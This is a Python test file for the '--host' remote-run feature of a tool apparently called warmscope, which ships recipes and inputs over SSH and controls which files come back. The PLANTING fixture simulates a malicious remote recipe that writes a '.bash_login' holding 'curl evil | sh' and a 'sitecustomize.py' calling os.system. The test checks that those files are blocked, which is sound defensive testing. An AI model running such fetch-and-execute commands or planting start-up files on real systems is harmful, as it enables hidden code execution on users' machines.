"""``--host``: the local files a run names travel with it, and what it makes beside them comes back.

The remote is the loopback SSH server of ``tests/ssh_server.py``; its interpreter is one to
which the test's folder does not exist (``Server.python_hiding``): an agent that opened the
local path of ``--recipe`` or ``--inputs`` would fail, as it would on another machine.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import warmscope
from tests.ssh_server import Server, ssh_server
from warmscope.core.child.outcome import UsageError
from warmscope.core.data.reading import read_run
from warmscope.core.data.settings import RunSettings
from warmscope.core.run import remote
from warmscope.core.run.shipment import shipment

PYTHON = sys.executable  # the remote interpreter: this one, which has torch
HOST = "127.0.0.1"
needs_ssh = pytest.mark.skipif(shutil.which("ssh") is None, reason="no OpenSSH client")

RECIPE = """import hashlib
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
LOCAL = {local!r}


def prepare(model, example_inputs=None):
    try:
        open(LOCAL).close()
        local = "readable"
    except OSError:
        local = "hidden"
    with open(os.path.join(HERE, "recipe.cache.bin"), "rb") as f:
        artifact = hashlib.sha256(f.read()).hexdigest()
    said = {{"file": __file__, "local": local, "artifact": artifact}}
    made = os.path.join(HERE, "made.json")
    with open(made, "w") as f:  # a file the run is not known to make: it stays there
        json.dump(said, f)
    sys.stderr.write("SAID " + json.dumps(said) + "\\n")
    return model
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with ssh_server(tmp_path_factory.mktemp("ssh")) as running:
        yield running


def _files_here(folder: Path) -> dict[str, Path]:
    """A recipe that says what it saw there, its binary cache artifact, a 3x5 inputs file."""
    import torch

    folder.mkdir()
    recipe = folder / "recipe.py"
    recipe.write_text(RECIPE.format(local=str(recipe)))
    artifact = folder / "recipe.cache.bin"
    artifact.write_bytes(bytes(range(256)) * 64)  # NULs, 0xff: not text
    inputs = folder / "inputs.pt"
    torch.save(torch.ones(3, 5), str(inputs))
    return {"recipe": recipe, "artifact": artifact, "inputs": inputs}


def _run_there(server: Server, tmp_path: Path, files: dict[str, Path], record: Path) -> None:
    python = server.python_hiding(PYTHON, files["recipe"].parent)
    result = warmscope(
        "run",
        "sample:trivial",
        "--inputs",
        str(files["inputs"]),
        "--recipe",
        str(files["recipe"]),
        "--iters",
        "3",
        "--host",
        HOST,
        "--python",
        python,
        "--record",
        str(record),
        env=server.env(),
        cwd=tmp_path,
    )
    assert result.code == 0, result.stderr


@needs_ssh
def test_a_recipe_and_inputs_here_run_there_from_copies_sent_along(
    server: Server, tmp_path: Path
) -> None:
    """The run reads the recipe, its artifact and the inputs from the guardian's folder (their
    local paths cannot be opened there). A file it makes there that a run is not known to make
    does not come back: it is named in the record."""
    files = _files_here(tmp_path / "here")
    _run_there(server, tmp_path, files, tmp_path / "first.jsonl")
    data = read_run(tmp_path / "first.jsonl")
    assert (data.status, data.count, data.inputs) == ("ok", 3, ["float32[3,5]"])
    shipped = data.env["shipped"]
    assert isinstance(shipped, dict) and shipped.keys() == {"recipe", "inputs_file"}
    guardian_folder = Path(shipped["recipe"]).parent.parent.parent
    assert guardian_folder.parent == server.remote_tmp.resolve()
    assert guardian_folder.name.startswith("warmscope-remote-")
    assert Path(shipped["recipe"]).name == "recipe.py"
    assert Path(shipped["inputs_file"]).name == "inputs.pt"
    assert data.settings.recipe == str(files["recipe"])  # the record names the local file

    said = (tmp_path / "first.stderr.txt").read_text().split("SAID ", 1)[1].splitlines()[0]
    assert json.loads(said) == {
        "file": shipped["recipe"],
        "local": "hidden",
        "artifact": hashlib.sha256(files["artifact"].read_bytes()).hexdigest(),
    }
    assert any("'made.json'" in e.title and "not copied" in e.title for e in data.events)
    assert sorted(p.name for p in files["recipe"].parent.iterdir()) == [
        "inputs.pt",
        "recipe.cache.bin",
        "recipe.py",
    ]
    assert server.left() == []


PLANTING = """import os
import stat

HERE = os.path.dirname(os.path.abspath(__file__))


def prepare(model, example_inputs=None):
    planted = {
        "recipe.cache.bin": b"the artifact",
        ".bash_login": b"curl evil | sh",
        "sitecustomize.py": b"import os; os.system('evil')",
        "notes.txt": b"anything",
    }
    for name, data in planted.items():
        path = os.path.join(HERE, name)
        with open(path, "wb") as f:
            f.write(data)
        os.chmod(path, 0o755)
    return model
"""


@needs_ssh
def test_a_remote_model_plants_no_file_here(server: Server, tmp_path: Path) -> None:
    """Only the file a run is known to make comes back (the recipe's cache artifact), as data
    (0644); dotfiles, Python start-up files and anything else stay there, named."""
    here = tmp_path / "here"
    here.mkdir()
    recipe = here / "recipe.py"
    recipe.write_text(PLANTING)
    record = tmp_path / "planted.jsonl"
    result = warmscope(
        "run",
        "sample:trivial",
        "--recipe",
        str(recipe),
        "--iters",
        "2",
        "--host",
        HOST,
        "--python",
        PYTHON,
        "--record",
        str(record),
        env=server.env(),
        cwd=tmp_path,
    )
    assert result.code == 0, result.stderr
    assert sorted(p.name for p in here.iterdir()) == ["recipe.cache.bin", "recipe.py"]
    artifact = here / "recipe.cache.bin"
    assert artifact.read_bytes() == b"the artifact"
    assert artifact.stat().st_mode & 0o777 == 0o644
    titles = " ".join(e.title for e in read_run(record).events)
    for name in (".bash_login", "sitecustomize.py", "notes.txt"):
        assert f"'{name}'" in titles and "not copied" in titles
    assert server.left() == []


@needs_ssh
def test_files_over_the_limit_are_one_line_before_any_connection(
    server: Server,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Refused before anything runs: through the command line's ``main``, in this process."""
    from warmscope.cli import main

    big = tmp_path / "big.pt"
    with open(big, "wb") as f:  # sparse: its size is what counts, not its blocks
        f.truncate(remote.FILES_MAX + 1)
    monkeypatch.setenv("WARMSCOPE_SSH_OPTIONS", server.options())
    monkeypatch.chdir(tmp_path)
    capsys.readouterr()
    argv = ["run", "sample:trivial", "--inputs", str(big), "--host", HOST, "--python", PYTHON]
    code = main([*argv, "--record", str(tmp_path / "r.jsonl")])
    err = capsys.readouterr().err
    lines = err.strip().splitlines()
    assert code == 2 and len(lines) == 1, err
    assert lines[0].startswith(f"warmscope: --host {HOST}: --inputs {big} is ")
    assert f"at most {remote.FILES_MAX >> 20} MiB" in lines[0]
    assert not (tmp_path / "r.jsonl").exists()
    assert server.left() == []


@needs_ssh
@pytest.mark.skipif(os.geteuid() == 0, reason="root reads a file whatever its mode")
def test_an_unreadable_recipe_is_one_line_before_any_connection(
    server: Server, tmp_path: Path
) -> None:
    recipe = tmp_path / "recipe.py"
    recipe.write_text("def prepare(model, example_inputs=None):\n    return model\n")
    recipe.chmod(0)
    result = warmscope(
        "run",
        "sample:trivial",
        "--recipe",
        str(recipe),
        "--host",
        HOST,
        "--python",
        PYTHON,
        env=server.env(),
        cwd=tmp_path,
    )
    lines = result.stderr.strip().splitlines()
    assert result.code == 2 and len(lines) == 1, result.stderr
    assert lines[0] == (
        f"warmscope: --host {HOST}: cannot read --recipe {recipe} to send it there: "
        "Permission denied"
    )
    assert server.left() == []


def test_a_file_that_cannot_be_read_is_named_with_its_option(tmp_path: Path) -> None:
    """Read as the run's start reads them, before it connects: the option, the path, why."""
    (tmp_path / "inputs").mkdir()
    settings = RunSettings(target="sample:trivial", host=HOST, inputs_file=str(tmp_path / "inputs"))
    with pytest.raises(UsageError) as caught:
        remote.shipped_files(shipment(settings), HOST)
    assert str(caught.value) == (
        f"--host {HOST}: cannot read --inputs {tmp_path / 'inputs'} to send it there: "
        "Is a directory"
    )


def test_what_travels_and_where_the_agent_finds_it(tmp_path: Path) -> None:
    """Each field's file in a folder of its own there, a recipe's artifact beside it; the
    agent's config names their places under the guardian's folder."""
    files = _files_here(tmp_path / "here")
    settings = RunSettings(
        target="sample:trivial", recipe=str(files["recipe"]), inputs_file=str(files["inputs"])
    )
    sent = remote.shipped_files(shipment(settings), HOST)
    assert sent.fields == {"recipe": "in/0/recipe.py", "inputs_file": "in/1/inputs.pt"}
    assert [rel for rel, _ in sent.blobs] == [
        "in/0/recipe.py",
        "in/0/recipe.cache.bin",
        "in/1/inputs.pt",
    ]
    assert sent.blobs[1][1] == files["artifact"].read_bytes()
    data, there = remote.payload({"kind": "module"}, {}, 10.0, sent=sent)
    assert data.endswith(b"".join(blob for _, blob in sent.blobs))
    config = {"recipe": str(files["recipe"]), "inputs_file": str(files["inputs"])}
    hello = {"home": "/far/warmscope-remote-x", "ring": {"fd": 5, "slots": 64}}
    agent = remote.config_there(config, there, hello)
    assert agent["recipe"] == "/far/warmscope-remote-x/in/0/recipe.py"
    assert agent["inputs_file"] == "/far/warmscope-remote-x/in/1/inputs.pt"
